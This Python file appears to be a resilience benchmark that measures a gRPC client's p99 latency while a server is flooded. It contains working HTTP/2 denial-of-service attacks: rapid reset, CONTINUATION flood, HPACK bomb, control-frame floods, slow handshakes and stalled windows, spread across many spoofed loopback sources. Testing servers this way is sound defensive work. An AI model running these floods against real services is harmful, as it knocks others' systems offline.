"""What a well-behaved client notices while somebody attacks the server.

The client calls at a constant rate, a quarter of what the server can do, from connections that it keeps; its p99 counts
from when each call was to be made. The attacker shares the client's core, so the p99 without an attack is taken beside a
program that only burns as much of it.

Run as a program, this is the attacker: attacks.py NAME HOST:PORT
"""
import random
import socket
import subprocess
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
#: What an attacker writes before it looks whether it has been cut off.
FLOOD_BYTES = 512 * 1024
#: How long an attacker keeps a connection that is left alone, in seconds.
PATIENCE = 1.0


def frame(kind, flags, stream, payload=b""):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def literal(name, value):
    def text(data):
        if len(data) < 127:
            return bytes([len(data)]) + data
        rest, out = len(data) - 127, bytearray([127])
        while rest > 127:
            out.append(rest & 127 | 128)
            rest >>= 7
        return bytes(out) + bytes([rest]) + data
    return b"\0" + text(name) + text(value)


CALL = b"".join(literal(name, value) for name, value in (
    (b":method", b"POST"), (b":scheme", b"http"), (b":path", b"/bench.Echo/Say"), (b":authority", b"x"),
    (b"te", b"trailers"), (b"content-type", b"application/grpc")))
HELLO = PREFACE + frame(4, 0, 0)


def streams(make):
    """Frames of one stream after the other, as many as a flood has."""
    out, stream = [], 1
    size = 0
    while size < FLOOD_BYTES:
        part = make(stream)
        out.append(part)
        size += len(part)
        stream += 2
    return HELLO + b"".join(out)


def repeated(part, before=b""):
    return HELLO + before + part * (FLOOD_BYTES // len(part))


def call(stream, flags=4):
    return frame(1, flags, stream, CALL)


#: Of each attack, what every connection writes, and whether the connections are kept and not replaced.
ATTACKS = {
    "rapid reset": lambda: (streams(lambda s: call(s) + frame(3, 0, s, b"\0\0\0\x08")), False),
    "made-you-reset": lambda: (streams(lambda s: call(s) + frame(8, 0, s, b"\x7f\xff\xff\xff")), False),
    "PING flood": lambda: (repeated(frame(6, 0, 0, b"12345678")), False),
    "SETTINGS flood": lambda: (repeated(frame(4, 0, 0, b"\0\x03\0\0\0\x64")), False),
    "PRIORITY flood": lambda: (repeated(frame(2, 0, 1, b"\0\0\0\0\1")), False),
    "WINDOW_UPDATE flood": lambda: (repeated(frame(8, 0, 0, b"\0\0\0\1")), False),
    "empty DATA": lambda: (repeated(frame(0, 0, 1), call(1)), False),
    "CONTINUATION flood": lambda: (repeated(frame(9, 0, 1, literal(b"a", b"b")), call(1, flags=0)), False),
    "HPACK bomb": lambda: (repeated(
        frame(9, 0, 1, b"\xbe" * 16_000),
        frame(1, 0, 1, CALL + b"\x40" + literal(b"bomb", b"b" * 3_900)[1:])), False),
    "garbage": lambda: (random.Random(1).randbytes(FLOOD_BYTES), False),
    "connections that come and go": lambda: (b"", False),
    "slow handshakes": lambda: (PREFACE[:10], True),
    "windows that stay shut": lambda: (
        PREFACE + frame(4, 0, 0, b"\0\4\0\0\0\0") + b"".join(
            call(s) + frame(0, 1, s, b"\0\0\0\0\x12\x0a\x10" + b"x" * 16) for s in range(1, 401, 2)), True),
}
#: Connections that an attacker keeps.
KEPT = 500


def attack(name, address):
    """Attacks until it is killed, from an address of its own for each connection: many attackers, not one."""
    host, port = address.rsplit(":", 1)
    payload, keeps = ATTACKS[name]()
    chance = random.Random(7)
    kept = []
    while True:
        peer = socket.socket()
        peer.bind((f"127.{chance.randrange(1, 255)}.{chance.randrange(1, 255)}.{chance.randrange(1, 255)}", 0))
        peer.settimeout(PATIENCE)
        try:
            peer.connect((host, int(port)))
            if payload:
                peer.sendall(payload)
            while payload and not keeps and peer.recv(65536):
                pass
        except OSError:
            pass
        if not keeps:
            peer.close()
            continue
        kept.append(peer)
        if len(kept) >= KEPT:
            kept.pop(0).close()
            time.sleep(0.01)


def burn():
    while True:
        pass


def say(name, under, without):
    print(f"  attacks: {name:<30} p99 {under:>8,.0f} us, without {without:>8,.0f} us", flush=True)


def measure(server, rounds, seconds, say):
    """{attack: (p99 us with it, p99 us without)}, the least of the rounds: a host that takes a core away can only add."""
    import peers

    running = peers.Running(server, "say")
    options = ("-b", "16", "-t", str(seconds))
    try:
        rate = f"{running.load('unary', *options)['per_second'] / 4:.0f}"

        def p99(*words):
            other = subprocess.Popen(["taskset", "-c", "1", "nice", "-n", "19", sys.executable, __file__, *words])
            try:
                return running.load("unary", *options, "-r", rate)["p99_us"]
            finally:
                other.kill()
                other.wait()

        found = {}
        for name in ATTACKS:
            runs = [(p99(name, running.address), p99("burn", "")) for _ in range(rounds)]
            found[name] = tuple(min(side) for side in zip(*runs))
            say(name, *found[name])
        return found
    finally:
        running.stop()


if __name__ == "__main__":
    burn() if sys.argv[1] == "burn" else attack(sys.argv[1], sys.argv[2])
